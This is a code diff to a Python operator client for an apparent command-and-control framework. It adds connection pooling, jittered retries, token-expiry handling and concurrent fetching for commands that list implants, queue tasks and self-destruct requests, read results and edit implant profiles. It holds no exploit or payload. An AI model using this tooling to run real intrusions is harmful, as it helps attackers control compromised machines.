@@ -1,6 +1,11 @@
+import random
 import sys
-from typing import Any, Dict, List, Optional, Union
+from concurrent.futures import ThreadPoolExecutor
+from datetime import datetime, timedelta
+from typing import Any, Dict, List, Optional, Tuple, Union
 import requests
+from requests.adapters import HTTPAdapter
+from urllib3.util.retry import Retry
 from dataclasses import dataclass
 import structlog
 from opcodes import Opcodes
@@ -9,17 +14,62 @@ from config import OperatorConfig
 
 logger = structlog.get_logger()
 
+# Lifetime assumed for tokens when the server doesn't report one
+DEFAULT_TOKEN_TTL = timedelta(hours=6)
+# Re-check the token with the server once it is this close to expiring
+TOKEN_EXPIRY_MARGIN = timedelta(seconds=60)
+# Message the server sends with a 401 when the auth token itself is invalid or expired
+NOT_AUTHENTICATED_MSG = "Not authenticated"
 
-@dataclass
+
+class _JitteredRetry(Retry):
+    """
+    `Retry` with random jitter added on top of its exponential backoff, so clients retrying
+    against a struggling server don't all come back at the same moment.
+    """
+
+    def get_backoff_time(self) -> float:
+        backoff = super().get_backoff_time()
+        return backoff + random.uniform(0, backoff)
+
+
+# Connection errors are retried for every method, 5xx responses only for GET. DELETE isn't
+# idempotent here (e.g. every kill request queues another SELFDESTRUCT task). Read timeouts
+# aren't retried, a long request like `get_tasks` would otherwise wait out its timeout repeatedly.
+_RETRY = _JitteredRetry(
+    total=4,
+    read=0,
+    backoff_factor=0.25,
+    status_forcelist=[502, 503, 504],
+    allowed_methods=["GET"],
+    raise_on_status=False,
+)
+
+# Shared session so every call to the server reuses a pooled keep-alive connection.
+# The operator listener is plain HTTP/1.1 (gunicorn, no TLS), so there is no HTTP/2 to
+# multiplex over; concurrent calls (see `gather_dashboard`) each take a pooled connection.
+# `pool_block` makes concurrent callers wait for a pooled connection instead of opening
+# throwaway ones that are discarded once the pool is full.
+_SESSION = requests.Session()
+_SESSION.mount(
+    "http://",
+    HTTPAdapter(
+        pool_connections=4, pool_maxsize=20, max_retries=_RETRY, pool_block=True
+    ),
+)
+
+
+@dataclass(slots=True, frozen=True)
 class ServerAuthResponseSuccess:
     token: str
     rmq_host: str
     rmq_port: str
     rmq_queue: str
     status: bool
+    expires_in: int
 
 
-@dataclass
+@dataclass(slots=True, frozen=True)
 class ServerAuthResponseFailure:
     status: bool
     message: str
@@ -49,22 +99,26 @@ def server_auth(ip: str, port: int, name: str, login_secret: str) -> ServerAuthR
         "X-Signature": login_secret,
     }
 
-    response = requests.get(url, headers=headers)
+    response = _SESSION.get(url, headers=headers)
+    body = response.json()
     if response.status_code == 200:
         return ServerAuthResponseSuccess(
-            token=response.json()["token"],
-            rmq_host=response.json()["rmq_host"],
-            rmq_port=response.json()["rmq_port"],
-            rmq_queue=response.json()["rmq_queue"],
+            token=body["token"],
+            rmq_host=body["rmq_host"],
+            rmq_port=body["rmq_port"],
+            rmq_queue=body["rmq_queue"],
             status=True,
+            expires_in=body.get(
+                "expires_in", int(DEFAULT_TOKEN_TTL.total_seconds())
+            ),
         )
     else:
-        return ServerAuthResponseFailure(status=False, message=response.json()["msg"])
+        return ServerAuthResponseFailure(status=False, message=body["msg"])
 
 
 def handle_server_auth(config: OperatorConfig) -> str:
     """
-    Authenticate to the server and return the auth token
+    Authenticate to the server and return the auth token. The token's expiry is stored in `config`.
     """
     # Attempt to authenticate to the server
     try:
@@ -78,12 +132,13 @@ def handle_server_auth(config: OperatorConfig) -> str:
         logger.error("Failed to authenticate to server", auth_result=None)
         sys.exit(1)
 
-    if auth_result.status != True:
-        assert type(auth_result) == ServerAuthResponseFailure
+    if isinstance(auth_result, ServerAuthResponseFailure):
         logger.error("Failed to authenticate to server", message=auth_result.message)
         sys.exit(1)
 
-    assert type(auth_result) == ServerAuthResponseSuccess
+    config.auth_token_expiry = datetime.now() + timedelta(
+        seconds=auth_result.expires_in
+    )
     return auth_result.token
 
 
@@ -94,23 +149,60 @@ def ensure_token(config: OperatorConfig) -> None:
     """
     if config.auth_token is None or len(config.auth_token) == 0:
         config.auth_token = handle_server_auth(config)
+        return
+
+    # Trust the known expiry and skip the status round-trip until the token is about to expire
+    if (
+        config.auth_token_expiry is not None
+        and datetime.now() < config.auth_token_expiry - TOKEN_EXPIRY_MARGIN
+    ):
+        return
+
     if not check_auth_token(config):
         config.auth_token = handle_server_auth(config)
 
 
+def _auth_session(config: OperatorConfig) -> None:
+    """
+    Update the default `Authorization` header of the shared session if the token in `config` has changed.
+    """
+    header = f"Bearer {config.auth_token}"
+    if _SESSION.headers.get("Authorization") != header:
+        _SESSION.headers.update({"Authorization": header})
+
+
+def _token_rejected(response: requests.Response) -> bool:
+    """
+    Check if the server rejected the request because of the auth token. The server also answers 401
+    for permission errors (e.g. accessing another operator's task), which re-authenticating won't fix.
+    """
+    if response.status_code != 401:
+        return False
+    try:
+        return response.json().get("msg") == NOT_AUTHENTICATED_MSG
+    except ValueError:
+        return False
+
+
 def send_authenticated_request(
     method: str, endpoint: str, config: OperatorConfig, **request_kwargs
 ) -> requests.Response:
     """
     Build and send an authenticated response to the given endpoint. The C2 and authentication information
-    will be extracted from `config`.
+    will be extracted from `config`. If the server rejects the token, the operator re-authenticates and
+    the request is retried once. Other 401s (e.g. permission errors) are returned as-is.
     """
-    url = f"http://{config.c2}:{config.c2_port}{endpoint}"
-    headers = {
-        "Authorization": f"Bearer {config.auth_token}",
-    }
+    url = config.base_url + endpoint
+    _auth_session(config)
 
-    return requests.request(method=method, url=url, headers=headers, **request_kwargs)
+    response = _SESSION.request(method=method, url=url, **request_kwargs)
+    if _token_rejected(response):
+        # The token was rejected (e.g. revoked or expired early), re-authenticate and retry once
+        logger.debug("Auth token rejected, re-authenticating", endpoint=endpoint)
+        config.auth_token = handle_server_auth(config)
+        _auth_session(config)
+        response = _SESSION.request(method=method, url=url, **request_kwargs)
+    return response
 
 
 def list_implants(config: OperatorConfig) -> List[Any]:
@@ -149,15 +241,31 @@ def get_tasks(config: OperatorConfig) -> List[Dict[Any, Any]]:
         response = send_authenticated_request(
             "GET", "/op/tasks/list", config, timeout=120
         )
-        if response.json()["status"] != True:
+        body = response.json()
+        if body["status"] != True:
             logger.error("Failed to get tasks")
             return []
-        return response.json()["tasks"]
+        return body["tasks"]
     except Exception as e:
         logger.error("Failed to get tasks", exc_info=e)
         return []
 
 
+def gather_dashboard(
+    config: OperatorConfig,
+) -> Tuple[List[Any], Dict[str, Any], List[Dict[Any, Any]]]:
+    """
+    Fetch the implant list, server stats and task list concurrently over the shared session.
+    Returns a tuple of `(implants, stats, tasks)`.
+    """
+    ensure_token(config)
+    with ThreadPoolExecutor(max_workers=3) as pool:
+        implants = pool.submit(list_implants, config)
+        stats = pool.submit(get_server_stats, config)
+        tasks = pool.submit(get_tasks, config)
+        return implants.result(), stats.result(), tasks.result()
+
+
 def add_task(
     config: OperatorConfig, opcode: int, implant_id: str, args: Any
 ) -> Dict[str, Any]:
@@ -173,38 +281,58 @@ def add_task(
         response = send_authenticated_request(
             "POST", "/op/tasks/add", config, json=data
         )
-        if response.json()["status"] != True:
+        body = response.json()
+        if body["status"] != True:
             logger.error("Failed to add task")
             return {}
-        logger.info(f"Dispatched task", type=Opcodes.get_by_value(opcode), task_id=response.json()['task']['task_id'], implant_id=implant_id, opcode=opcode)
-        return response.json()["task"]
+        logger.info(f"Dispatched task", type=Opcodes.get_by_value(opcode), task_id=body['task']['task_id'], implant_id=implant_id, opcode=opcode)
+        return body["task"]
     except Exception as e:
         logger.error("Failed to add task", exc_info=e)
         return {}
 
 
-def get_task_result(config: OperatorConfig, task_id: str) -> Optional[str]:
+def get_task_result(
+    config: OperatorConfig, task_id: str, wait: int = 0
+) -> Optional[str]:
+    """
+    Get the result of a task. If `wait` is given, the server holds the request for up to `wait` seconds
+    until the task completes instead of the caller having to poll.
+    """
     try:
         ensure_token(config)
 
+        # Give the server the whole wait before timing out the request ourselves
         response = send_authenticated_request(
-            "GET", f"/op/tasks/results/{task_id}", config
+            "GET",
+            f"/op/tasks/results/{task_id}",
+            config,
+            params={"wait": wait} if wait > 0 else None,
+            timeout=wait + 5 if wait > 0 else None,
         )
-        if response.json()["status"] != True:
+        if response.status_code == 204:
+            logger.info("Task has no result yet", task_id=task_id)
+            return None
+        body = response.json()
+        if body["status"] != True:
             logger.error("Failed to get task result")
             return None
-        return response.json()["result"]
+        return body["result"]
     except Exception as e:
         logger.error("Failed to get task result", exc_info=e)
         return ""
 
 
 def implant_exists(config: OperatorConfig, id_prefix: str) -> bool:
-    implants = list_implants(config)
-    for implant in implants:
-        if implant["implant_id"].startswith(id_prefix):
-            return True
-    return False
+    try:
+        ensure_token(config)
+        response = send_authenticated_request(
+            "GET", f"/op/implant/exists/{id_prefix}", config
+        )
+        return response.json()["exists"]
+    except Exception as e:
+        logger.error("Failed to check if implant exists", exc_info=e)
+        return False
 
 
 def get_implant_profile(config: OperatorConfig, implant_id: str) -> Dict[str, Any]:
@@ -213,11 +341,12 @@ def get_implant_profile(config: OperatorConfig, implant_id: str) -> Dict[str, An
     response = send_authenticated_request(
         "GET", f"/op/implant/config/{implant_id}", config
     )
-    if response.json()["status"] != True:
-        logger.error("Failed to get implant config: %s", response.json()["msg"])
+    body = response.json()
+    if body["status"] != True:
+        logger.error("Failed to get implant config: %s", body["msg"])
         return {}
 
-    return response.json()["config"]
+    return body["config"]
 
 
 def update_implant_profile(
@@ -225,12 +354,6 @@ def update_implant_profile(
 ) -> None:
     ensure_token(config)
 
-    url = f"http://{config.c2}:{config.c2_port}/op/implant/config/{implant_id}"
-    headers = {
-        "Authorization": f"Bearer {config.auth_token}",
-    }
-
-    response = requests.post(url, headers=headers, json=changes)
     response = send_authenticated_request(
         "POST", f"/op/implant/config/{implant_id}", config, json=changes
     )
@@ -279,8 +402,9 @@ def set_implant_alias(config: OperatorConfig, implant_id: str, alias: str) -> No
     response = send_authenticated_request(
         "POST", f"/op/implant/{implant_id}/alias/create", config, json={"alias": alias}
     )
-    if response.json()["status"] != True:
-        logger.error(f"Failed to set implant alias: {response.json()['msg']}")
+    body = response.json()
+    if body["status"] != True:
+        logger.error(f"Failed to set implant alias: {body['msg']}")
         return
     logger.info("Set implant alias", implant_id=implant_id, alias=alias)
 
@@ -294,10 +418,11 @@ def list_implant_aliases(config: OperatorConfig, implant_id: str) -> List[str]:
     response = send_authenticated_request(
         "GET", f"/op/implant/{implant_id}/alias/list", config
     )
-    if response.json()["status"] != True:
-        logger.error(f"Failed to list implant aliases: {response.json()['msg']}")
+    body = response.json()
+    if body["status"] != True:
+        logger.error(f"Failed to list implant aliases: {body['msg']}")
         return []
-    return response.json()["aliases"]
+    return body["aliases"]
 
 def delete_implant_alias(config: OperatorConfig, implant_id: str, alias: str) -> None:
     """
@@ -308,8 +433,9 @@ def delete_implant_alias(config: OperatorConfig, implant_id: str, alias: str) ->
     response = send_authenticated_request(
         "DELETE", f"/op/implant/{implant_id}/alias/delete/{alias}", config
     )
-    if response.json()["status"] != True:
-        logger.error(f"Failed to delete implant alias: {response.json()['msg']}")
+    body = response.json()
+    if body["status"] != True:
+        logger.error(f"Failed to delete implant alias: {body['msg']}")
         return
     logger.info("Deleted implant alias", implant_id=implant_id, alias=alias)
 
@@ -322,6 +448,7 @@ def resolve_implant_alias(config: OperatorConfig, alias: str) -> Optional[str]:
     response = send_authenticated_request(
         "GET", f"/op/implant/alias/resolve/{alias}", config
     )
-    if response.json()["status"] != True:
+    body = response.json()
+    if body["status"] != True:
         return None
-    return response.json()["implant_id"]
\ No newline at end of file
+    return body["implant_id"]
\ No newline at end of file